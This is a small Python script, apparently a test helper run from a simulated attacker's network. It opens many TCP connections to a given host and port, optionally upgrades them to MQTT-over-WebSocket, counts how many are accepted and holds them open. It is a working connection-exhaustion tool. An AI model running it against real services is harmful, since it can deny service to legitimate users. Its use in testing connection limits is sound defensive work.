"""Opens many connections at once and keeps them; run as a script in the attacker's network.

``python crowd.py HOST PORT COUNT [ws]`` prints how many were let in, waits until its standard input ends, and leaves.
"""

import contextlib
import resource
import selectors
import socket
import sys
import time

PATIENCE = 3.0
UPGRADE = (
    b"GET /mqtt HTTP/1.1\r\nHost: hub\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: mqtt\r\n\r\n"
)


def crowd(host: str, port: int, count: int) -> list[socket.socket]:
    """The connections of ``count`` tries that are established within a few seconds, and stay so."""
    selector = selectors.DefaultSelector()
    made: list[socket.socket] = []
    waiting: dict[int, socket.socket] = {}
    for _ in range(count):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((host, port))
        selector.register(one, selectors.EVENT_WRITE)
        waiting[one.fileno()] = one
    deadline = time.monotonic() + PATIENCE
    while selector.get_map() and time.monotonic() < deadline:
        for key, _ in selector.select(0.1):
            one = waiting.pop(key.fd)
            selector.unregister(one)
            if one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                made.append(one)
            else:
                one.close()
    return made


def upgraded(made: list[socket.socket]) -> int:
    """How many of these become WebSockets."""
    for one in made:
        with contextlib.suppress(OSError):
            one.send(UPGRADE)
    answered = 0
    deadline = time.monotonic() + PATIENCE
    for one in made:
        one.settimeout(max(0.05, deadline - time.monotonic()))
        with contextlib.suppress(OSError):
            answered += b" 101 " in one.recv(200)
    return answered


def main() -> None:
    """As the module says."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    made = crowd(host, port, count)
    print(upgraded(made) if sys.argv[4:] == ["ws"] else len(made), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
